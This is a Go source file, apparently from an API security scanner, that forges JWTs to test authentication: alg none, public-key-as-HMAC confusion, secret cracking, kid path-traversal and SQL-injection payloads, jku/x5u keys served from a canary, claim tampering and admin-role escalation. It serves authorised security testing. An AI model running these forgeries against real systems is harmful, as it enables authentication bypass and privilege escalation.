package authn

import (
	"context"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"math/big"
	"net/http"
	"regexp"
	"sort"
	"strings"
	"time"

	"github.com/rampart-scan/rampart/internal/check"
	"github.com/rampart-scan/rampart/internal/jwt"
	"github.com/rampart-scan/rampart/internal/oob"
	"github.com/rampart-scan/rampart/internal/plan"
	"github.com/rampart-scan/rampart/internal/probe"
)

// attacks runs the forgeries and returns the best key won (nil when none).
// Operations that verify no signature at all are reported once and left out
// of the later forgeries, which they would accept whatever the key.
func (f *JWTFamily) attacks(ctx context.Context, s *check.Scan, sub subject, prot []tokenOp) (*forger, error) {
	var won *forger
	keep := func(fg *forger) {
		if won == nil || won.trivial && !fg.trivial {
			won = fg
		}
	}
	header, claims := sub.tok.Clone()
	now := time.Now()
	unverified := map[string]bool{}

	// Signature not verified: a corrupted or empty signature.
	if s.Enabled(RuleSigNotVerified) {
		for i, tok := range jwt.Corrupted(sub.tok) {
			t, err := f.try(ctx, s, sub, prot, tok, "corrupted-signature")
			if err != nil {
				return nil, err
			}
			if len(t.accepted) == 0 {
				continue
			}
			what := []string{"a corrupted signature", "an empty signature"}[i]
			f.report(s, sub, t, RuleSigNotVerified, check.Critical, fmt.Sprintf("The token with %s is accepted like the genuine one: the signature is never checked.", what))
			for _, p := range t.accepted {
				unverified[p.op.Key()] = true
			}
			alg := sub.tok.Alg()
			keep(&forger{name: "no signature check", won: true, trivial: true, sign: func(h, c map[string]any) (string, error) {
				h = cloneAny(h)
				h["alg"] = alg
				in, err := jwt.Encode(h, c)
				return in + "." + randomHex(32), err
			}})
			break
		}
	}
	var verified []tokenOp
	for _, p := range prot {
		if !unverified[p.op.Key()] {
			verified = append(verified, p)
		}
	}
	if len(verified) == 0 {
		f.note("the signature is verified nowhere the token works: alg none, key confusion, kid and jku/x5u injection are not tested (any key would pass)")
		return won, nil
	}
	prot = verified
	// alg none.
	if s.Enabled(RuleAlgNone) {
		for _, tok := range jwt.NoneVariants(header, fresh(claims, now)) {
			t, err := f.try(ctx, s, sub, prot, tok, "alg-none")
			if err != nil {
				return nil, err
			}
			if len(t.accepted) == 0 {
				continue
			}
			p, _ := jwt.Parse(strings.TrimSuffix(tok, ".") + ".")
			alg, dot := "none", strings.HasSuffix(tok, ".")
			if p != nil {
				alg = p.Alg()
			}
			f.report(s, sub, t, RuleAlgNone, check.Critical, fmt.Sprintf("An unsigned token (alg %q%s) is accepted.", alg, map[bool]string{true: ", trailing dot", false: ", no trailing dot"}[dot]))
			keep(&forger{name: "alg none", won: true, sign: func(h, c map[string]any) (string, error) {
				h = cloneAny(h)
				h["alg"] = alg
				delete(h, "kid")
				in, err := jwt.Encode(h, c)
				if dot {
					in += "."
				}
				return in, err
			}})
			break
		}
	}
	// Key confusion.
	if alg := sub.tok.Alg(); len(alg) == 5 && strings.ContainsAny(alg[:1], "REP") && s.Enabled(RuleKeyConfusion) {
		fg, err := f.confusion(ctx, s, sub, prot)
		if err != nil {
			return nil, err
		}
		if fg != nil {
			keep(fg)
		}
	}
	// kid injection.
	if s.Enabled(RuleKidInjection) {
		fg, err := f.kid(ctx, s, sub, prot)
		if err != nil {
			return nil, err
		}
		if fg != nil {
			keep(fg)
		}
	}
	// jku / x5u.
	if s.Canary != nil && (s.Enabled(RuleJkuInjection) || s.Enabled(RuleX5uInjection)) {
		fg, err := f.keyURL(ctx, s, sub, prot)
		if err != nil {
			return nil, err
		}
		if fg != nil {
			keep(fg)
		}
	}
	return won, nil
}

func cloneAny(m map[string]any) map[string]any {
	out := make(map[string]any, len(m))
	for k, v := range m {
		out[k] = v
	}
	return out
}

func (f *JWTFamily) crack(ctx context.Context, s *check.Scan, sub subject, prot []tokenOp) (*forger, error) {
	cands := jwt.Chain{jwt.BuiltIn()}
	if len(s.Options.JWT.Wordlist) > 0 {
		cands = append(jwt.Chain{jwt.ListFromLines(s.Options.JWT.Wordlist)}, cands...)
	}
	timeout := s.Options.JWT.CrackTimeout
	if timeout <= 0 {
		timeout = 20 * time.Second
	}
	r := jwt.Crack(ctx, sub.tok, cands, timeout)
	if r.TimedOut {
		f.note(fmt.Sprintf("jwt.weak-secret: the secret search stopped at --jwt-crack-timeout after %d of %d candidates", r.Tried, r.Total))
	}
	if !r.Found {
		return nil, nil
	}
	secret := []byte(r.Secret)
	alg := sub.tok.Alg()
	fg := &forger{name: "cracked secret", won: true, sign: func(h, c map[string]any) (string, error) {
		return jwt.Sign(alg, h, c, jwt.Key{Secret: secret})
	}}
	h, c := sub.tok.Clone()
	tok, err := fg.sign(h, fresh(c, time.Now()))
	if err != nil {
		return nil, nil
	}
	t, err := f.try(ctx, s, sub, prot, tok, "cracked-secret")
	if err != nil {
		return nil, err
	}
	detail := fmt.Sprintf("The %s secret is %q (redacted), found offline among %d candidates in %s; it re-signs the genuine token exactly.",
		alg, jwt.Redact(r.Secret), r.Tried, r.Elapsed.Round(time.Millisecond))
	if len(t.accepted) == 0 {
		// The signature match proves the key; report on the first protected operation.
		s.Report(check.Finding{Rule: RuleWeakSecret, Severity: check.Critical, Confidence: check.Confirmed, Method: prot[0].op.Method, Path: prot[0].op.Path,
			Identity: sub.id.Name(), Detail: detail, Evidence: []check.Evidence{{Kind: check.EvidenceNote, Identity: sub.id.Name(), Note: detail}}})
		return fg, nil
	}
	f.report(s, sub, t, RuleWeakSecret, check.Critical, detail+" A fresh token signed with it is accepted.")
	return fg, nil
}

// publicKeys gathers the API's public keys from well-known JWKS locations and the tester's files.
func publicKeys(ctx context.Context, s *check.Scan) []jwt.PublicKey {
	var keys []jwt.PublicKey
	if len(s.Options.JWT.PublicKeyPEM) > 0 {
		if k, err := jwt.ParsePublicKeyPEM(s.Options.JWT.PublicKeyPEM); err == nil {
			keys = append(keys, jwt.PublicKey{Key: k})
		}
	}
	if len(s.Options.JWT.PrivateKeyPEM) > 0 {
		if k, err := jwt.ParsePrivateKey(s.Options.JWT.PrivateKeyPEM); err == nil {
			keys = append(keys, jwt.PublicKey{Key: k.Public()})
		}
	}
	get := func(rel string) *probe.Exchange {
		ex, err := s.Client.Do(ctx, &probe.Request{Method: http.MethodGet, URL: s.Plan.URL(rel, nil), Header: http.Header{"Accept": {"application/json"}}})
		if err != nil || ex.Status != http.StatusOK {
			return nil
		}
		return ex
	}
	paths := []string{"/.well-known/jwks.json", "/jwks.json", "/.well-known/jwks"}
	if ex := get("/.well-known/openid-configuration"); ex != nil {
		var oc struct {
			JWKSURI string `json:"jwks_uri"`
		}
		if json.Unmarshal(ex.Body, &oc) == nil && oc.JWKSURI != "" {
			if ex2, err := s.Client.Do(ctx, &probe.Request{Method: http.MethodGet, URL: oc.JWKSURI}); err == nil && ex2.Status == http.StatusOK {
				if ks, err := jwt.ParseJWKS(ex2.Body); err == nil {
					keys = append(keys, ks...)
				}
			}
		}
	}
	for _, p := range paths {
		if ex := get(p); ex != nil {
			if ks, err := jwt.ParseJWKS(ex.Body); err == nil {
				keys = append(keys, ks...)
				break
			}
		}
	}
	return keys
}

func (f *JWTFamily) confusion(ctx context.Context, s *check.Scan, sub subject, prot []tokenOp) (*forger, error) {
	keys := publicKeys(ctx, s)
	if len(keys) == 0 {
		f.note("jwt.key-confusion: no public key found (JWKS at /.well-known/jwks.json, /jwks.json, OpenID configuration, or --jwt-public-key)")
		return nil, nil
	}
	h, c := sub.tok.Clone()
	claims := fresh(c, time.Now())
	for _, k := range keys {
		for i, secret := range jwt.ConfusionSecrets(k.Key) {
			tok, err := jwt.Sign("HS256", h, claims, jwt.Key{Secret: secret})
			if err != nil {
				continue
			}
			t, err := f.try(ctx, s, sub, prot, tok, "key-confusion")
			if err != nil {
				return nil, err
			}
			if len(t.accepted) == 0 {
				continue
			}
			forms := []string{"PKIX PEM", "PKIX PEM without its final newline", "PKIX PEM with CRLF", "PKIX DER", "PKCS#1 PEM", "PKCS#1 PEM without its final newline", "PKCS#1 PEM with CRLF"}
			form := "a public key encoding"
			if i < len(forms) {
				form = forms[i]
			}
			f.report(s, sub, t, RuleKeyConfusion, check.Critical, fmt.Sprintf("A %s token is accepted as HS256 when its HMAC secret is the server's public key (%s).", sub.tok.Alg(), form))
			sec := secret
			return &forger{name: "public key as HMAC secret", won: true, sign: func(h, c map[string]any) (string, error) {
				return jwt.Sign("HS256", h, c, jwt.Key{Secret: sec})
			}}, nil
		}
	}
	return nil, nil
}

func (f *JWTFamily) kid(ctx context.Context, s *check.Scan, sub subject, prot []tokenOp) (*forger, error) {
	h, c := sub.tok.Clone()
	claims := fresh(c, time.Now())
	variants := []struct{ kid, key, what string }{
		{"../../../../../../../../../../dev/null", "", "path traversal to an empty file"},
		{"/dev/null", "", "an absolute path to an empty file"},
		{"x' UNION SELECT 'rampart'-- -", "rampart", "SQL injection returning a chosen key"},
		{"0 UNION SELECT 'rampart'", "rampart", "SQL injection returning a chosen key"},
	}
	for _, v := range variants {
		hh := cloneAny(h)
		hh["kid"] = v.kid
		tok, err := jwt.Sign("HS256", hh, claims, jwt.Key{Secret: []byte(v.key)})
		if err != nil {
			continue
		}
		t, err := f.try(ctx, s, sub, prot, tok, "kid-injection")
		if err != nil {
			return nil, err
		}
		if len(t.accepted) == 0 {
			continue
		}
		f.report(s, sub, t, RuleKidInjection, check.High, fmt.Sprintf("A token whose kid is %q (%s) and whose HMAC key is %q is accepted.", v.kid, v.what, v.key))
		kid, key := v.kid, v.key
		return &forger{name: "kid injection", won: true, sign: func(h, c map[string]any) (string, error) {
			h = cloneAny(h)
			h["kid"] = kid
			return jwt.Sign("HS256", h, c, jwt.Key{Secret: []byte(key)})
		}}, nil
	}
	return nil, nil
}

// keyURL serves a key of Rampart's own at the canary and points jku / x5u at it.
func (f *JWTFamily) keyURL(ctx context.Context, s *check.Scan, sub subject, prot []tokenOp) (*forger, error) {
	priv, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		return nil, nil
	}
	h, c := sub.tok.Clone()
	claims := fresh(c, time.Now())
	var result *forger
	for _, kind := range []string{"jku", "x5u"} {
		rule := map[string]string{"jku": RuleJkuInjection, "x5u": RuleX5uInjection}[kind]
		if !s.Enabled(rule) {
			continue
		}
		token := s.Canary.NewToken()
		kid := "rampart-" + token[2:10]
		switch kind {
		case "jku":
			body, _ := json.Marshal(map[string]any{"keys": []any{jwt.PublicJWK(&priv.PublicKey, kid)}})
			s.Canary.Respond(token, oob.Response{Status: 200, ContentType: "application/json", Body: body})
		case "x5u":
			cert, err := selfSigned(priv)
			if err != nil {
				continue
			}
			s.Canary.Respond(token, oob.Response{Status: 200, ContentType: "application/x-pem-file", Body: cert})
		}
		hh := cloneAny(h)
		hh[kind] = s.Canary.URL(token) + "/keys"
		hh["kid"] = kid
		tok, err := jwt.Sign("RS256", hh, claims, jwt.Key{Private: priv})
		if err != nil {
			continue
		}
		t, err := f.try(ctx, s, sub, prot, tok, kind+"-injection")
		if err != nil {
			return nil, err
		}
		hit, ok := s.Canary.Wait(ctx, token, 300*time.Millisecond) // verifiers fetch keys while handling the request
		if !ok {
			continue
		}
		note := check.Evidence{Kind: check.EvidenceOOB, Note: fmt.Sprintf("the target fetched %s from %s (%s %s)", kind, hit.RemoteAddr, hit.Method, hit.URI)}
		if len(t.accepted) > 0 {
			f.report(s, sub, t, rule, check.Critical, fmt.Sprintf("The server fetched the signing key from the token's %s URL (Rampart's canary) and accepted the token signed with Rampart's key.", kind), note)
			pk, hdr := priv, hh
			result = &forger{name: kind + " injection", won: true, sign: func(h, c map[string]any) (string, error) {
				h = cloneAny(h)
				for k, v := range hdr {
					h[k] = v
				}
				return jwt.Sign("RS256", h, c, jwt.Key{Private: pk})
			}}
			continue
		}
		p := prot[0]
		s.Report(check.Finding{Rule: rule, Severity: check.High, Confidence: check.Confirmed, Method: p.op.Method, Path: p.op.Path, Identity: sub.id.Name(),
			Detail:   fmt.Sprintf("The server fetched a key from the token's %s URL (Rampart's canary), though it did not accept the token. Forged token: %s", kind, tok),
			Evidence: []check.Evidence{note}, SpecLocation: check.SpecLocation(p.op)})
	}
	return result, nil
}

func selfSigned(priv *rsa.PrivateKey) ([]byte, error) {
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(time.Now().UnixNano()), Subject: pkix.Name{CommonName: "rampart"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour)}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &priv.PublicKey, priv)
	if err != nil {
		return nil, err
	}
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), nil
}

// claimAudits re-sign the genuine claims with one claim changed.
func (f *JWTFamily) claimAudits(ctx context.Context, s *check.Scan, sub subject, prot []tokenOp, won *forger) error {
	fg := testerForger(s, sub.tok)
	if fg == nil {
		fg = won
	}
	if fg == nil {
		f.note("jwt.expired-accepted, jwt.not-before-ignored, jwt.audience-not-validated, jwt.issuer-not-validated: not assessed, no signing key (give --jwt-secret or --jwt-private-key, or one must be won by attack)")
		return nil
	}
	h, c := sub.tok.Clone()
	now := time.Now()
	base := fresh(c, now)
	// Sanity: the key must make an acceptable token at all.
	tok, err := fg.sign(h, base)
	if err != nil {
		return nil
	}
	t, err := f.try(ctx, s, sub, prot, tok, "resigned")
	if err != nil {
		return err
	}
	if len(t.accepted) == 0 {
		f.note(fmt.Sprintf("claims audits not assessed: a token re-signed with the %s is refused", fg.name))
		return nil
	}
	ok := t.accepted
	audits := []struct {
		rule   string
		sev    check.Severity
		need   string
		change func(map[string]any)
		what   string
	}{
		{RuleExpiredAccepted, check.High, "", func(m map[string]any) {
			m["exp"] = now.Add(-24 * time.Hour).Unix()
			if _, has := m["iat"]; has {
				m["iat"] = now.Add(-25 * time.Hour).Unix()
			}
			if _, has := m["nbf"]; has {
				m["nbf"] = now.Add(-25 * time.Hour).Unix()
			}
		}, "a token that expired a day ago"},
		{RuleNotBeforeIgnored, check.Medium, "", func(m map[string]any) {
			m["nbf"] = now.Add(2 * time.Hour).Unix()
			if sub.tok.Has("nbf") {
				m["exp"] = now.Add(3 * time.Hour).Unix() // the issuer uses nbf: keep the token coherent
			} // otherwise the future nbf is the only change
		}, "a token valid only from two hours from now (nbf)"},
		{RuleAudience, check.High, "aud", func(m map[string]any) {
			if _, isList := m["aud"].([]any); isList {
				m["aud"] = []any{"https://other-api.rampart.invalid"}
			} else {
				m["aud"] = "https://other-api.rampart.invalid"
			}
		}, "a token for another audience"},
		{RuleIssuer, check.High, "iss", func(m map[string]any) { m["iss"] = "https://issuer.rampart.invalid" }, "a token from another issuer"},
	}
	for _, a := range audits {
		if !s.Enabled(a.rule) || (a.need != "" && !sub.tok.Has(a.need)) {
			continue
		}
		claims := cloneAny(base)
		a.change(claims)
		tok, err := fg.sign(h, claims)
		if err != nil {
			continue
		}
		t, err := f.try(ctx, s, sub, ok, tok, strings.TrimPrefix(a.rule, "jwt."))
		if err != nil {
			return err
		}
		if len(t.accepted) > 0 {
			f.report(s, sub, t, a.rule, a.sev, fmt.Sprintf("%s, signed with the %s, is accepted.", upperFirst(a.what), fg.name))
		}
	}
	return nil
}

func upperFirst(s string) string {
	if s == "" {
		return s
	}
	return strings.ToUpper(s[:1]) + s[1:]
}

// testerForger signs with key material the tester supplied (claims audits only).
func testerForger(s *check.Scan, tok *jwt.Token) *forger {
	alg := tok.Alg()
	if _, isHMAC := jwt.HMACHash(alg); isHMAC && s.Options.JWT.Secret != "" {
		secret := []byte(s.Options.JWT.Secret)
		return &forger{name: "tester's secret", sign: func(h, c map[string]any) (string, error) {
			return jwt.Sign(alg, h, c, jwt.Key{Secret: secret})
		}}
	}
	if len(s.Options.JWT.PrivateKeyPEM) > 0 {
		k, err := jwt.ParsePrivateKey(s.Options.JWT.PrivateKeyPEM)
		if err != nil {
			return nil
		}
		if _, isHMAC := jwt.HMACHash(alg); isHMAC {
			alg = jwt.AlgFor(k)
		}
		return &forger{name: "tester's private key", sign: func(h, c map[string]any) (string, error) {
			return jwt.Sign(alg, h, c, jwt.Key{Private: k})
		}}
	}
	return nil
}

// foreign presents a token issued by another service (--jwt-foreign-token).
func (f *JWTFamily) foreign(ctx context.Context, s *check.Scan, sub subject, prot []tokenOp) error {
	raw := s.Options.JWT.ForeignToken
	if raw == "" || !s.Enabled(RuleAudience) {
		return nil
	}
	t, err := f.try(ctx, s, sub, prot, raw, "foreign-token")
	if err != nil || len(t.accepted) == 0 {
		return err
	}
	f.report(s, sub, t, RuleAudience, check.High, "A token issued by another service (--jwt-foreign-token) is accepted here.")
	return nil
}

var scopeToken = regexp.MustCompile(`\b[a-z][a-z_-]*(:[a-z*][a-z_*-]*)+\b`)

// escalate raises role/scope claims (or takes another user's sub) with a key won by attack.
func (f *JWTFamily) escalate(ctx context.Context, s *check.Scan, subs []subject, forbidden []*plan.Operation, won *forger) error {
	if !s.Enabled(RuleClaimEscalation) || !won.won {
		return nil
	}
	sub := subs[0]
	h, c := sub.tok.Clone()
	base := fresh(c, time.Now())
	// Scope values worth trying: the spec's admin scopes and admin-looking scopes in its prose.
	scopes := map[string]bool{"admin": true}
	for _, o := range s.Plan.Operations {
		if o.Spec == nil {
			continue
		}
		for _, sc := range o.Spec.Scopes() {
			if strings.Contains(strings.ToLower(sc), "admin") {
				scopes[sc] = true
			}
		}
		for _, m := range scopeToken.FindAllString(o.Spec.Summary+" "+o.Spec.Description, -1) {
			if strings.Contains(m, "admin") {
				scopes[m] = true
			}
		}
	}
	var scopeList []string
	for sc := range scopes {
		scopeList = append(scopeList, sc)
	}
	sort.Strings(scopeList)
	var variants []map[string]any
	for _, sc := range scopeList {
		m := cloneAny(base)
		m["role"], m["scope"] = "admin", sc
		if _, has := c["roles"]; has {
			m["roles"] = []any{"admin"}
		}
		if _, has := c["is_admin"]; has {
			m["is_admin"] = true
		}
		variants = append(variants, m)
	}
	for _, o := range forbidden {
		for _, claims := range variants {
			tok, err := won.sign(h, claims)
			if err != nil {
				continue
			}
			ex, err := send(ctx, s, sub, o, tok, "escalated")
			if err != nil {
				return err
			}
			if !usable(s, ex) {
				continue
			}
			check.Update(s.Facts, ForgedTokenFact, func(old map[string]string, _ bool) map[string]string {
				if old == nil {
					old = map[string]string{}
				}
				old["admin"] = tok
				return old
			})
			s.Report(check.Finding{Rule: RuleClaimEscalation, Severity: check.Critical, Confidence: check.Confirmed, Method: o.Method, Path: o.Path,
				Identity: sub.id.Name(),
				Detail: fmt.Sprintf("%s's genuine token gets 403 here; the same token with role=admin and scope=%q, forged with the %s, gets %d with data. Forged token: %s",
					sub.id.Name(), claims["scope"], won.name, ex.Status, tok),
				Evidence: []check.Evidence{s.Evidence(ex, "escalated token")}, Curl: s.Curl(ex), SpecLocation: check.SpecLocation(o)})
			break
		}
	}
	// Impersonating another user (their sub) needs nothing beyond the won key,
	// whose own finding already says so: it is not reported a second time.
	return nil
}
